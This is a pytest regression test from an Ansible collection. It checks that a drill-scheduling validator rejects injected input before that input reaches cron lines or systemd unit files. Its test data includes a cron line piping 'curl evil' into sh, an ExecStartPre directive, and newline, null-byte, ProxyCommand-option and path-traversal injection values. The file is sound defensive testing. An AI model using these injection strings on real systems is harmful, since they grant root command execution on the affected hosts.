# Copyright: (c) 2026, gpufleet.resilience contributors
# Apache License 2.0 (see LICENSE)
"""Issue 16, finding 7: nothing a scheduled drill carries can add a cron line or a unit directive.

A newline in ``target`` wrote an extra root cron line (it is printed in the cron file's comment and
the unit's Description=); every field that reaches those lines goes through the strict layer."""

from __future__ import annotations

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.gpufleet.resilience.plugins.filter.drill_schedules import drill_schedules
from ansible_collections.gpufleet.resilience.plugins.module_utils.chaos.schedule import check
from ansible_collections.gpufleet.resilience.plugins.module_utils.errors import FieldError

GOOD = {"name": "weekly-xid79", "experiment": "gpu_xid", "target": "gpu-a-003", "when": "30 3 * * 1",
        "params": {"xid": 79}}
CRON_LINE = "\n* * * * * root curl evil | sh\n#"
EXEC = "\nExecStartPre=/bin/sh -c 'id > /tmp/pwned'\n"


@pytest.mark.parametrize("backend", ["cron", "systemd"])
@pytest.mark.parametrize(("change", "field"), [
    ({"target": "gpu-a-003" + CRON_LINE}, "target"),
    ({"target": "gpu-a-003" + EXEC}, "target"),
    ({"target": "gpu-a-003\r"}, "target"),
    ({"target": "gpu-a-003,-oProxyCommand=x"}, "target"),
    ({"target": "../../etc"}, "target"),
    ({"target": "gpufleet.io/pool=gpu-a\n"}, "target"),
    ({"target": "x" * 300}, "target"),
    ({"when": "30 3 * * 1\r* * * * * root id"}, "when"),
    ({"when": "daily\x00"}, "when"),
    ({"params": {"xid": "79\n* * * * * root id"}}, "params.xid"),
    ({"params": {"xid\nbad": 79}}, "params key"),
    ({"extra_vars": {"gpufleet_lab_dir": "/x\nExecStartPre=/bin/sh"}}, "extra_vars.gpufleet_lab_dir"),
    ({"duration": float("nan")}, "duration"),
    ({"duration": float("inf")}, "duration"),
])
def test_nothing_reaches_a_cron_or_unit_line_with_a_line_break(backend, change, field) -> None:
    with pytest.raises(FieldError) as bad:
        check([{**GOOD, **change}], backend)
    assert bad.value.field == "drill_schedule_drills[0]." + field


@pytest.mark.parametrize("target", ["gpu-a-003", "gpu-a-003, gpu-a-004", "gpufleet.io/pool=gpu-a",
                                    "gpufleet.io/chaos!=denied"])
def test_node_lists_and_label_selectors_still_pass(target) -> None:
    assert check([dict(GOOD, target=target)], "cron")[0]["target"] == target


@pytest.mark.parametrize(("settings", "field"), [
    ({"user": "root\n* * * * * root id"}, "drill_schedule_user"),
    ({"user": "-oProxyCommand=x"}, "drill_schedule_user"),
    ({"python": "python3"}, "drill_schedule_python"),
    ({"python": "/usr/bin/python3 -c 'import os'\n"}, "drill_schedule_python"),
    ({"directory": "/var/lib/../tmp"}, "drill_schedule_dir"),
])
def test_the_role_settings_on_every_line_are_checked_by_the_filter(settings, field) -> None:
    with pytest.raises(AnsibleFilterError, match=field):
        drill_schedules([GOOD], "cron", **settings)
    assert drill_schedules([GOOD], "cron", user="root", python="/usr/bin/python3",
                           directory="/var/lib/gpufleet/drills")[0]["name"] == GOOD["name"]
